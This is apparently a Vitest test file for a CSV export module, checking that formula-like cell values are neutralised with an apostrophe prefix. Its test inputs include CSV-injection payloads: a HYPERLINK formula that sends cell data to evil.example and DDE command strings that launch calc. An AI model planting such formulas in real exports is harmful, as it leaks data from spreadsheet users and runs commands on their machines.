import { Readable } from 'node:stream';
import { buffer } from 'node:stream/consumers';
import { describe, expect, it } from 'vitest';
import { csvStringifier, neutraliseCsvText } from '../../src/lib/csv.js';

describe('neutraliseCsvText', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`],
    ["+cmd|'/C calc'!A0", "'+cmd|'/C calc'!A0"],
    ['-2+3+cmd|x!A0', "'-2+3+cmd|x!A0"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['-', "'-"],
  ])('prefixes %j, which a spreadsheet would run', (value, expected) => {
    expect(neutraliseCsvText(value)).toBe(expected);
  });

  it.each(['news', 'a,"b', 'x=1', ' =1', '', '42', '-1.50', '0.0000', '-7'])('leaves %j as it is', (value) => {
    expect(neutraliseCsvText(value)).toBe(value);
  });
});

describe('csvStringifier', () => {
  it('writes formula-like text inert, numbers and plain decimals as numbers, null as an empty cell', async () => {
    const csv = csvStringifier();
    // Bytes, not text: a TextDecoder would drop the byte order mark.
    const out = buffer(csv);
    Readable.from([
      ['=1+1', -12, '-3.25', null, '@x'],
      ['a,"b', 7, undefined, '+1', '\tq'],
    ]).pipe(csv);
    // A byte order mark first and CRLF line ends, as spreadsheets open it (decision 077).
    expect((await out).toString('utf8')).toBe(`\ufeff'=1+1,-12,-3.25,,'@x\r\n"a,""b",7,,'+1,'\tq\r\n`);
  });
});
